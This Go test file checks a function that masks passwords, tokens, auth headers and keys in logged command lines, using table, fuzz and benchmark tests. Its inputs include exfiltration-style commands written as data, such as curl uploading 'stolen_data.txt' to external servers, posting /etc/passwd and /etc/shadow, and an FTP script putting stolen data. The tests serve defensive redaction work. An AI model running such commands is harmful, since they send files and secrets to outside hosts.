package mask

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
)

func TestCommandLine(t *testing.T) {
	for name, test := range map[string]struct {
		args []string
		want string
	}{
		"the ADS document's own": {
			[]string{"curl", "-u", "username:password", "ftp://malicious-server.com/path/to/steal/data.txt"},
			"curl -u **** ftp://malicious-server.com/path/to/steal/data.txt",
		},
		"its upload":           {[]string{"curl", "--upload-file", "stolen_data.txt", "http://external-server.com/upload"}, "curl --upload-file stolen_data.txt http://external-server.com/upload"},
		"empty":                {nil, ""},
		"long user":            {[]string{"curl", "--user", "x:y", "h"}, "curl --user **** h"},
		"assigned user":        {[]string{"curl", "--user=x:y", "h"}, "curl --user=**** h"},
		"attached user":        {[]string{"curl", "-uuser:pw", "h"}, "curl -u**** h"},
		"clustered user":       {[]string{"/usr/bin/curl", "-sSku", "user:pw", "h"}, "/usr/bin/curl -sSku **** h"},
		"clustered output":     {[]string{"curl", "-so", "u", "-Tupload.txt", "h"}, "curl -so u -Tupload.txt h"},
		"user with spaces":     {[]string{"curl", "-u", "user:my secret", "h"}, "curl -u **** h"},
		"renamed curl":         {[]string{"/tmp/x", "-u", "user:pw", "-H", "Authorization: Basic abc", "h"}, "/tmp/x -u **** -H Authorization: **** h"},
		"bearer header":        {[]string{"curl", "-H", "Authorization: Bearer s3cr3t", "h"}, "curl -H Authorization: **** h"},
		"attached header":      {[]string{"curl", "-HX-Api-Key: s3cr3t", "h"}, "curl -HX-Api-Key: **** h"},
		"harmless header":      {[]string{"curl", "--header", "Accept: text/plain", "h"}, "curl --header Accept: text/plain h"},
		"wget header":          {[]string{"wget", "--header=Cookie: a=b", "h"}, "wget --header=Cookie: **** h"},
		"header out of quotes": {[]string{"echo", "Authorization:", "Bearer", "s3cr3t", "end"}, "echo Authorization: Bearer **** end"},
		"data":                 {[]string{"curl", "-d", "name=x&password=y", "h"}, "curl -d **** h"},
		"data file":            {[]string{"curl", "--data-binary", "@/etc/passwd", "h"}, "curl --data-binary @/etc/passwd h"},
		"form file":            {[]string{"curl", "-F", "file=@/etc/shadow", "h"}, "curl -F file=@/etc/shadow h"},
		"form secret":          {[]string{"curl", "-F", "password=@hunter2", "h"}, "curl -F **** h"},
		"cookie":               {[]string{"curl", "-b", "session=1", "h"}, "curl -b **** h"},
		"token option":         {[]string{"tool", "--token", "abc", "--api-token=def"}, "tool --token **** --api-token=****"},
		"password option":      {[]string{"tool", "--password=abc", "--ftp-password", "def"}, "tool --password=**** --ftp-password ****"},
		"password from file":   {[]string{"tool", "--password-file", "/run/x", "--password-stdin", "y"}, "tool --password-file /run/x --password-stdin y"},
		"environment":          {[]string{"env", "GITHUB_TOKEN=abc", "AWS_SECRET_ACCESS_KEY=def", "PGPASSWORD=a b", "PWD=/srv", "sh"}, "env GITHUB_TOKEN=**** AWS_SECRET_ACCESS_KEY=**** PGPASSWORD=**** PWD=/srv sh"},
		"access key id":        {[]string{"s3put", "AKIAIOSFODNN7EXAMPLE", "f"}, "s3put **** f"},
		"aws configure":        {[]string{"aws", "configure", "set", "aws_secret_access_key", "abc"}, "aws configure set aws_secret_access_key ****"},
		"mysql":                {[]string{"mysql", "-uroot", "-pS3cret", "-h", "db", "-p", "shop"}, "mysql -uroot -p**** -h db -p shop"},
		"mysql in a path":      {[]string{"/usr/bin/mysqldump", "-pS3cret"}, "/usr/bin/mysqldump -p****"},
		"other -p":             {[]string{"nc", "-p", "8080"}, "nc -p 8080"},
		"docker run":           {[]string{"docker", "run", "-p", "80:80", "-e", "DB_PASSWORD=x", "img:1@sha256:00ff"}, "docker run -p 80:80 -e DB_PASSWORD=**** img:1@sha256:00ff"},
		"docker login":         {[]string{"docker", "login", "-u", "bob", "-p", "pw", "r.example"}, "docker login -u **** -p **** r.example"},
		"sshpass":              {[]string{"sshpass", "-p", "x", "scp", "f", "u@h:/p"}, "sshpass -p **** scp f u@h:/p"},
		"sshpass attached":     {[]string{"sshpass", "-px", "ssh", "u@h"}, "sshpass -p**** ssh u@h"},
		"lftp":                 {[]string{"lftp", "-u", "user,pass", "-e", "put f; bye", "h"}, "lftp -u **** -e put f ; bye h"},
		"lftp script":          {[]string{"lftp", "-c", "open -u user,pass h; put f"}, "lftp -c open -u **** h ; put f"},
		"tnftp upload":         {[]string{"ftp", "-u", "ftp://user:pw@198.51.100.7/in/", "f"}, "ftp -u ftp://198.51.100.7/in/ f"},
		"url":                  {[]string{"wget", "https://u:p@h:8443/x?token=1#f"}, "wget https://h:8443/x"},
		"url in assignment":    {[]string{"x", "--url=https://u:p@h/x?y", "DSN=pg://u:p@db/x"}, "x --url=https://h/x DSN=pg://db/x"},
		"urls in one word":     {[]string{"x", "http://a/http://u:p@h/"}, "x http://a/http://h/"},
		"odd password in url":  {[]string{"x", "ftp://u:p#w@h/x", "ftp://u:p/w@h/x", "ftp://u:pa"}, "x ftp://h/x ftp://h/x ftp://****"},
		"user info, no scheme": {[]string{"x", "u:p@h", "u:p@ss@h/x"}, "x ****@h ****@h/x"},
		"shell":                {[]string{"sh", "-c", `tar c /d | curl -u a:b -H "Authorization: Bearer z" -T - http://h/x?k=v&l=w`}, "sh -c tar c /d | curl -u **** -H Authorization: **** -T - http://h/x"},
		"assignment in shell":  {[]string{"bash", "-lc", "X_TOKEN=abc curl -ua:b h; mysql -pq"}, "bash -lc X_TOKEN=**** curl -u**** h ; mysql -p****"},
		"nested shells":        {[]string{"sh", "-c", `ssh h 'curl -u "a:b" ftp://x'`}, "sh -c ssh h curl -u **** ftp://x"},
		"json":                 {[]string{"x", `{"user":"a","password":"b"}`, `{"token": "c"}`}, `x {"user":"a","password":**** {token: ****`},
		"openssl":              {[]string{"openssl", "enc", "-pass", "pass:x", "-k", "y"}, "openssl enc -pass **** -k ****"},
		"zip":                  {[]string{"7z", "a", "-pSECRET", "o.7z", "d"}, "7z a -p**** o.7z d"},
		"pscp":                 {[]string{"pscp", "-pw", "x", "f", "u@h:"}, "pscp -pw **** f u@h:"},
		"smbclient":            {[]string{"smbclient", "-U", "user%pw", "//h/s"}, "smbclient -U **** //h/s"},
		"telegram":             {[]string{"curl", "https://api.telegram.org/bot123456:AAH-x/sendDocument"}, "curl https://api.telegram.org/****/sendDocument"},
		"form file with type":  {[]string{"curl", "-F", "file=@/etc/passwd;type=text/plain", "h"}, "curl -F file=@/etc/passwd h"},
		"the ADS FTP script":   {[]string{"sh", "-c", "ftp -inv h << EOF\nuser username password\nput stolen_data.txt\nquit\nEOF"}, "sh -c ftp -inv h << EOF ; user **** **** ; put stolen_data.txt ; quit ; EOF"},
		"user without name":    {[]string{"sh", "-c", "echo user; put f"}, "sh -c echo user ; put f"},
		"quoted FTP commands":  {[]string{"sh", "-c", "ftp -n h <<E\nquote USER bob\nquote PASS pw\nput x\nE"}, "sh -c ftp -n h <<E ; quote USER **** ; quote PASS **** ; put x ; E"},
		"continued lines":      {[]string{"sh", "-c", "mysql \\\n  -ppw \\\n  db"}, "sh -c mysql -p**** db"},
		"python's auth":        {[]string{"python3", "-c", "put('http://h/x', auth=('user', 'pw'))"}, "python3 -c put(http://h/x, auth=**** ****"},
		"AWS key pair":         {[]string{"mc", "alias", "set", "m", "https://h", "AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}, "mc alias set m https://h **** ****"},
		"SHA-1 stays":          {[]string{"git", "show", "da39a3ee5e6b4b0d3255bfef95601890afd80709"}, "git show da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		"controls":             {[]string{"a\x1b[31m", "b\nc", "\xff"}, "a\uFFFD[31m b ; c \uFFFD"},
	} {
		t.Run(name, func(t *testing.T) {
			assert.Equal(t, test.want, CommandLine(test.args))
		})
	}
}

func TestCommandLineIsBounded(t *testing.T) {
	long := strings.Repeat("é", MaxCommandLine)
	for _, args := range [][]string{
		{long}, {long, long}, {"sh", "-c", strings.Repeat("x ", 1<<20)}, {strings.Repeat("x", 1<<20)},
		{"sh", "-c", strings.Repeat(`'"`, 5000)},
	} {
		got := CommandLine(args)
		assert.LessOrEqual(t, len(got), MaxCommandLine)
		assert.True(t, utf8.ValidString(got))
	}
}

// The planted password stands where a password stands; whatever surrounds it,
// it does not come out.
func FuzzCommandLine(f *testing.F) {
	const planted = "Xq9ZpLanted7"
	f.Add("curl", "ftp://h/x", "-s")
	f.Add("sh", "-c", "curl -u a:b h")
	f.Add("mysql", "--user", "'")
	f.Fuzz(func(t *testing.T, tool, before, after string) {
		for _, secret := range [][]string{
			{"-u", "user:" + planted},
			{"--password", planted},
			{"--password=" + planted},
			{"DB_PASSWORD=" + planted},
			{"https://user:" + planted + "@h/x?token=" + planted},
			{"-H", "Authorization: Bearer " + planted},
		} {
			got := CommandLine(append([]string{"curl", before}, append(secret, after)...))
			assert.NotContains(t, got, planted)
			checkText(t, CommandLine([]string{tool, before, after}))
			checkText(t, got)
		}
	})
}

func checkText(t *testing.T, got string) {
	t.Helper()
	if len(got) > MaxCommandLine || !utf8.ValidString(got) || strings.ContainsFunc(got, func(r rune) bool { return r < ' ' || r == 0x7f }) {
		t.Fatalf("not clean text: %q", got)
	}
}

// An argument made to be slow: every byte ends a name.
func BenchmarkCommandLineHostile(b *testing.B) {
	args := []string{"x", strings.Repeat("=", maxArgument), strings.Repeat("&", maxArgument)}
	b.ReportAllocs()
	for b.Loop() {
		CommandLine(args)
	}
}

func BenchmarkCommandLine(b *testing.B) {
	args := []string{"curl", "-u", "username:password", "ftp://malicious-server.com/path/to/steal/data.txt"}
	b.ReportAllocs()
	for b.Loop() {
		CommandLine(args)
	}
}
